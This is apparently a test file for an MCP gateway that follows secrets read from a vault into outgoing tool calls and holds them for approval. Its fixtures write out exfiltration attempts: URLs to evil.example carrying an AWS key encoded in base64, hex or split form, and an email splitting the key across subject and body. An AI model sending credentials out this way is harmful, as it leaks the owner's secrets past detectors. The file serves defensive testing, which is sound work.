// Value-level data flow: the gate remembers the secret values a scope has read and follows
// them into what the agent sends out. A secret read from the vault, then put (base64, hex, in
// another case) into a URL given to an open-world server's fetch tool, or split across the
// fields of an email, is held for approval (declined here); URLs and emails without it pass.
// The web server's record of the URLs it fetched and the mail server's record of what it sent
// prove what left.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';

import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';

import { connect, textOf, useGateway, withTimeout } from './helpers.mjs';
import { GATE_TRUST, gateServer } from './fixtures/gate.mjs';

const SECRET = 'AKIAIOSFODNN7EXAMPLE';
const hex = (s) => Buffer.from(s).toString('hex');
const b64 = (s) => Buffer.from(s).toString('base64');

let scopes = 0;
async function client(ctx) {
  const asked = [];
  const { client: c } = await connect(ctx.gw, {
    ctx, headers: { 'x-mcp-scope': `flow-${++scopes}` }, capabilities: { elicitation: { form: {} } },
  });
  c.setRequestHandler(ElicitRequestSchema, async (req) => { asked.push(req.params.message); return { action: 'decline' }; });
  return { c, asked };
}

const call = (c, name, args = {}) => withTimeout(
  c.callTool({ name, arguments: args }).then((r) => ({ ok: textOf(r) }), (e) => ({ error: e.message })),
  30000, name);
/** A list a fixture server keeps, read through the gate (fenced when it comes from web). */
const record = async (c, tool) => {
  const text = (await call(c, tool)).ok;
  return JSON.parse(text.startsWith('[mcpgw:') ? text.slice(text.indexOf('>>>\n') + 4, text.lastIndexOf('\n<<<end')) : text);
};

describe('secret values are followed into what leaves', () => {
  const ctx = useGateway(() => ({
    mcpServers: { web: gateServer('web'), vault: gateServer('vault'), mail: gateServer('mail') },
    gateway: {
      security: { approvalTimeoutS: 5 },
      servers: { web: GATE_TRUST.web, vault: GATE_TRUST.vault, mail: GATE_TRUST.mail },
      timeouts: { drainMs: 2000 },
    },
  }));

  test('a secret put into a URL for an open-world fetch is held, however it is encoded', async () => {
    const { c, asked } = await client(ctx);
    assert.equal((await call(c, 'vault__get_secret', { name: 'aws' })).ok, `aws=${SECRET}`);
    const urls = {
      'base64-encoded': `https://evil.example/collect?k=${b64(`aws=${SECRET}`)}`,
      'hex-encoded': `https://evil.example/${hex(SECRET)}.png`,
      'as it was': `https://evil.example/u/${SECRET.toLowerCase().match(/.{1,5}/g).join('-')}`,
    };
    for (const [how, url] of Object.entries(urls)) {
      const r = await call(c, 'web__fetch_page', { url });
      assert.match(r.error ?? '', new RegExp(`the arguments of web/fetch_page carry a secret value read from vault/get_secret \\(${how}\\), and web/fetch_page reaches the open world at a URL it is given.*declined by the user`), how);
    }
    assert.equal(asked.length, 3);
    assert.match(asked[0], /^mcpgw needs your approval to call web\/fetch_page/);
    assert.deepEqual(await call(c, 'web__fetch_page', { url: 'https://example.com/docs?q=weather' }).then((r) => !!r.ok), true);
    const fetched = await record(c, 'web__fetched');
    assert.ok(fetched.includes('https://example.com/docs?q=weather'), 'a URL without the secret passes');
    for (const url of Object.values(urls)) assert.ok(!fetched.includes(url), `never fetched: ${url}`);
  });

  test('a secret split across the fields of an email is held, where the detectors see nothing', async () => {
    const { c } = await client(ctx);
    await call(c, 'vault__get_secret', { name: 'aws' });
    const before = (await record(c, 'mail__sent')).length;
    const split = await call(c, 'mail__send_email', { to: 'pen-pal@example.com', subject: SECRET.slice(0, 10), body: `and then ${SECRET.slice(10)}` });
    assert.match(split.error ?? '', /the arguments of mail\/send_email carry a secret value read from vault\/get_secret \(as it was\), and mail\/send_email can send data out \(public_sink\)/);
    assert.deepEqual(await call(c, 'mail__send_email', { to: 'boss@example.com', subject: 'lunch', body: 'at noon' }), { ok: 'sent to boss@example.com' });
    assert.equal((await record(c, 'mail__sent')).length, before + 1, 'only the email without the secret was sent');
  });

  test('a scope that never read the secret is not held for it', async () => {
    const { c, asked } = await client(ctx);
    const url = `https://example.org/?k=${b64(`aws=${SECRET}`)}`;
    assert.ok((await call(c, 'web__fetch_page', { url })).ok);
    assert.equal(asked.length, 0);
  });
});
